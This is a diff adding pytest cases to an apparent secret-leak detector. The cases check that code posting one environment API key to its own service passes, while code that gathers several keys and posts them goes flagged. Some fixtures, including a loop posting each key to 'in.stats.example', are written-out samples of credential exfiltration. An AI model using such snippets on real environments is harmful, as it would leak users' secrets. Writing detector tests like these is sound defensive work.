@@ -208,6 +208,48 @@ def test_key_of_one_service_that_is_looked_for_in_a_file_goes_to_no_other() -> N
     assert checks(LINES + looked_for + SENT["in a head"]) == {"python_key_sent_elsewhere"}
 
 
+SENT_ALONE = "requests.post('https://api.parrotlab.example/v1', headers={'x-key': key}, json={})\n"
+ONE_OF_SEVERAL = {
+    "whichever is set": "key = e.get('PARROT_KEY') or e.get('LION_KEY') or e.get('BEAR_KEY')\n",
+    "branches": (
+        "if e.get('PARROT_KEY'):\n    key = e['PARROT_KEY']\nelif e.get('LION_KEY'):\n    key = e['LION_KEY']\n"
+        "else:\n    key = e['BEAR_KEY']\n"
+    ),
+    "the first of a list": (
+        "key = next((e[name] for name in ('PARROT_KEY', 'LION_KEY', 'BEAR_KEY') if e.get(name)), None)\n"
+    ),
+    "a function's answers": (
+        "def find(a, b):\n    if a:\n        return e['PARROT_KEY']\n    if b:\n        return e['LION_KEY']\n"
+        "    return e['BEAR_KEY']\n\nkey = find(1, 0)\n"
+    ),
+}
+SEVERAL_AT_ONCE = {
+    "added up": "key = e['PARROT_KEY'] + e['LION_KEY'] + e['BEAR_KEY']\n",
+    "collected": (
+        "found = []\nfor name in ('PARROT_KEY', 'LION_KEY', 'BEAR_KEY'):\n    found.append(e.get(name) or '')\n"
+        "key = ','.join(found)\n"
+    ),
+    "by their names": "key = str({name: e.get(name) for name in ('PARROT_KEY', 'LION_KEY', 'BEAR_KEY')})\n",
+    "in a text": "key = ''\nfor name in ('PARROT_KEY', 'LION_KEY', 'BEAR_KEY'):\n    key += e.get(name, '') + ';'\n",
+}
+
+
+@pytest.mark.parametrize("had", ONE_OF_SEVERAL.values(), ids=ONE_OF_SEVERAL)
+def test_one_of_several_keys_is_no_collection(had: str) -> None:
+    assert checks(f"import os, requests\ne = os.environ\n{had}{SENT_ALONE}") == set()
+
+
+@pytest.mark.parametrize("had", SEVERAL_AT_ONCE.values(), ids=SEVERAL_AT_ONCE)
+def test_several_keys_at_once_are_a_collection(had: str) -> None:
+    assert checks(f"import os, requests\ne = os.environ\n{had}{SENT_ALONE}") == {"python_environment_sent"}
+
+
+def test_several_keys_one_after_another_are_a_collection() -> None:
+    sent = "requests.post('https://in.stats.example', data=e.get(name) or '')\n"
+    loop = f"for name in ('PARROT_KEY', 'LION_KEY', 'BEAR_KEY'):\n    {sent}"
+    assert checks(f"import os, requests\ne = os.environ\n{loop}") == {"python_environment_sent"}
+
+
 def test_client_of_several_services_hands_each_its_own_key() -> None:
     client = (
         "import os, requests\ne = os.environ\n\ndef api(url, token, more=None):\n"
